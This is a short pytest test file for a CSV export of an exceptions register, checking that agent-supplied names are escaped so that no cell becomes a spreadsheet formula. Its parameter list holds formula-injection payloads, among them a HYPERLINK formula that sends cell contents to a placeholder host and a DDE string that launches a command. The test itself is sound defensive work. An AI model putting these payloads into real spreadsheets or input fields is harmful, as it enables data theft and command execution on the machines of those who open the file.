"""What an agent calls itself does nothing in the spreadsheet of who opens the register of exceptions."""

import csv
import io

import pytest

from keyturn.evidence.program.sheets import lines, register


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "  =1", "\uff1d1"],
)
def test_no_cell_of_the_register_is_a_formula(name: str) -> None:
    row = ("no_self_approval", 7, 9, name, name + " approved it", "")
    (made,) = csv.DictReader(io.StringIO(register([row])))
    assert (made["subject"], made["exception"]) == ("'" + name, "'" + name + " approved it")
    assert name.replace('"', '""') in lines([row]), "negative control: a table has it as it is"
    assert register([("t", 1, 2, "a-1", "it = 2", "")]).endswith('"t",1,2,"a-1","it = 2",""\n')
